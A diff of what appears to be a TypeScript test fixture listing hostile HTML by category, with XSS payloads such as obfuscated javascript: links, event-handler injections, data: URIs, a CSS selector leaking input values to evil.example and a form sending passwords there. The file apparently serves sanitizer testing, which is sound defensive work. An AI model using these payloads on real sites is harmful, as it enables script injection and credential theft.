@@ -1,4 +1,4 @@
-// What attackers write, by kind. `probe` is what would run; every address stands on reserved names.
+// Hostile HTML by kind, beside the combinations of hostile-variants.ts. `probe` is the script; all hosts are reserved names.
 
 const probe = "alert(document.domain)";
 
@@ -96,23 +96,16 @@ export const hostileHtml: Readonly<Record<string, readonly string[]>> = {
   ],
 
   "schemes in links": [
-    `<a href="javascript:${probe}">x</a>`,
-    `<a href=javascript:${probe}>x</a>`,
-    `<a href='JaVaScRiPt:${probe}'>x</a>`,
     `<a href=" javascript:${probe}">x</a>`,
     `<a href="\u0001javascript:${probe}">x</a>`,
     `<a href="\u0000javascript:${probe}">x</a>`,
     `<a href="\u001Fjavascript:${probe}">x</a>`,
     `<a href="java\u0000script:${probe}">x</a>`,
-    `<a href="java\tscript:${probe}">x</a>`,
-    `<a href="java\nscript:${probe}">x</a>`,
     `<a href="java\r\nscript:${probe}">x</a>`,
     `<a href="javascript\t:${probe}">x</a>`,
     `<a href="javascript\n:${probe}">x</a>`,
     `<a href="j\na\nv\na\ns\nc\nr\ni\np\nt\n:\n${probe}">x</a>`,
-    `<a href="java&Tab;script:${probe}">x</a>`,
     `<a href="java&NewLine;script:${probe}">x</a>`,
-    `<a href="javascript&colon;${probe}">x</a>`,
     `<a href="javascript&#58;${probe}">x</a>`,
     `<a href="javascript&#x3A;${probe}">x</a>`,
     `<a href="javascript&#x3a${probe}">x</a>`,
@@ -145,14 +138,11 @@ export const hostileHtml: Readonly<Record<string, readonly string[]>> = {
     `<a href="javascript&#xFDD0;colon&#xFDD1;${probe}">x</a>`,
     `<a href="java&#xFDD0;&#xFDD1;script:${probe}">x</a>`,
     `<a href="javascript:javascript:${probe}">x</a>`,
-    `<a href="javascript://%0A${probe}">x</a>`,
     `<a href="javascript://https://vlotwerk.example/%0a${probe}">x</a>`,
     `<a href="javascript:/*https://*/${probe}">x</a>`,
     `<a href="jav<!-- -->ascript:${probe}">x</a>`,
     `<a href="jAvAsCrIpT&colon;${probe}" target="_blank">x</a>`,
     `<a href="https:javascript:${probe}">x</a>`,
-    `<a href="view-source:javascript:${probe}">x</a>`,
-    `<a href="feed:javascript:${probe}">x</a>`,
     `<a href="jar:javascript:${probe}!/">x</a>`,
     `<a href="mhtml:https://evil.example/x!y">x</a>`,
     `<a href="livescript:${probe}">x</a>`,
@@ -160,8 +150,6 @@ export const hostileHtml: Readonly<Record<string, readonly string[]>> = {
     `<a href="vbscript:MsgBox(1)">x</a>`,
     `<a href="vb&#115;cript:MsgBox(1)">x</a>`,
     `<a href=" VBScript&colon;MsgBox(1)">x</a>`,
-    `<a href="data:text/html,<script>${probe}</script>">x</a>`,
-    `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
     `<a href="DATA:text/html;charset=utf-7,+ADw-script+AD4-">x</a>`,
     `<a href="data&colon;text/html,x">x</a>`,
     `<a href="data:image/svg+xml,<svg onload=${probe}>">x</a>`,
@@ -188,7 +176,6 @@ export const hostileHtml: Readonly<Record<string, readonly string[]>> = {
     `<a href="/ok" download="x.html" referrerpolicy="unsafe-url" target="top">x</a>`,
     `<a href="/ok" target="_blank" rel="opener">x</a>`,
     `<a href="/ok" style="position:fixed;inset:0">x</a>`,
-    `<blockquote cite="javascript:${probe}">x</blockquote>`,
     `<q cite="data:text/html,x">x</q>`,
     `<del cite="vbscript:x">x</del>`,
     `<ins cite="java&#9;script:x">x</ins>`,
@@ -218,10 +205,8 @@ export const hostileHtml: Readonly<Record<string, readonly string[]>> = {
   ],
 
   pictures: [
-    `<img src="javascript:${probe}">`,
     `<img src=javascript:${probe}>`,
     `<img src="jav&#x0A;ascript:${probe}">`,
-    `<img src="data:text/html,<script>${probe}</script>">`,
     `<img src="data:image/svg+xml;base64,PHN2Zy8+">`,
     `<img src="data:image/svg+xml,<svg onload=${probe}>">`,
     `<img src="data:image/png,<script>${probe}</script>">`,
@@ -255,7 +240,6 @@ export const hostileHtml: Readonly<Record<string, readonly string[]>> = {
   ],
 
   "frames and plug-ins": [
-    `<iframe src="javascript:${probe}"></iframe>`,
     `<iframe src="https://evil.example"></iframe>`,
     `<iframe srcdoc="<script>${probe}</script>"></iframe>`,
     `<iframe srcdoc="&lt;img src=x onerror=${probe}&gt;"></iframe>`,
@@ -267,11 +251,8 @@ export const hostileHtml: Readonly<Record<string, readonly string[]>> = {
     `<iframe src="data:text/html,x"></iframe x="</iframe>"><img src=x onerror=${probe}>`,
     `<IFRAME SRC="vbscript:x"></IFRAME>`,
     `<frameset onload=${probe}><frame src="javascript:${probe}"></frameset>`,
-    `<object data="javascript:${probe}"></object>`,
-    `<object data="data:text/html,<script>${probe}</script>"></object>`,
     `<object type="text/x-scriptlet" data="//evil.example/x"></object>`,
     `<object><param name="movie" value="javascript:${probe}"><img src=x onerror=${probe}></object>`,
-    `<embed src="javascript:${probe}">`,
     `<embed src="data:image/svg+xml,x" type="image/svg+xml" onload=${probe}>`,
     `<applet code="javascript:${probe}"></applet>`,
     `<portal src="https://evil.example" onload=${probe}></portal>`,
@@ -292,7 +273,6 @@ export const hostileHtml: Readonly<Record<string, readonly string[]>> = {
     `<svg><a xlink:href="javascript:${probe}"><text y=20>x</text></a></svg>`,
     `<svg><a href="javascript:${probe}"><text>x</text></a></svg>`,
     `<svg><animate onbegin=${probe} attributeName=x dur=1s></svg>`,
-    `<svg><a><animate attributeName=href values="javascript:${probe}"/><text>x</text></a></svg>`,
     `<svg><set attributeName=onmouseover to="${probe}"/></svg>`,
     `<svg><use href="data:image/svg+xml,<svg id=x onload=${probe}>#x"/></svg>`,
     `<svg><use xlink:href="//evil.example/x.svg#x"/></svg>`,
@@ -432,7 +412,6 @@ export const hostileHtml: Readonly<Record<string, readonly string[]>> = {
     `<style>input[value^=a]{background:url(//evil.example/a)}</style>`,
     `<style media=x onload=${probe}></style>`,
     `<link rel=stylesheet href="//evil.example/x.css">`,
-    `<link rel=stylesheet href="javascript:${probe}">`,
     `<link rel=import href="//evil.example/x.html">`,
     `<link rel=preload as=script href="//evil.example/x.js" onload=${probe}>`,
     `<link rel=prefetch href="//evil.example">`,
@@ -455,7 +434,6 @@ export const hostileHtml: Readonly<Record<string, readonly string[]>> = {
   ],
 
   "the page around": [
-    `<meta http-equiv="refresh" content="0;url=javascript:${probe}">`,
     `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
     `<meta http-equiv="refresh" content="0;url=data:text/html,x">`,
     `<META HTTP-EQUIV="Set-Cookie" CONTENT="a=b">`,
@@ -484,9 +462,7 @@ export const hostileHtml: Readonly<Record<string, readonly string[]>> = {
   ],
 
   forms: [
-    `<form action="javascript:${probe}"><button>x</button></form>`,
     `<form action="https://evil.example"><input name=password type=password></form>`,
-    `<form><button formaction="javascript:${probe}">x</button></form>`,
     `<button formaction="javascript:${probe}">x</button>`,
     `<input type=submit formaction="//evil.example" form="contact">`,
     `<input autofocus onfocus=${probe}>`,
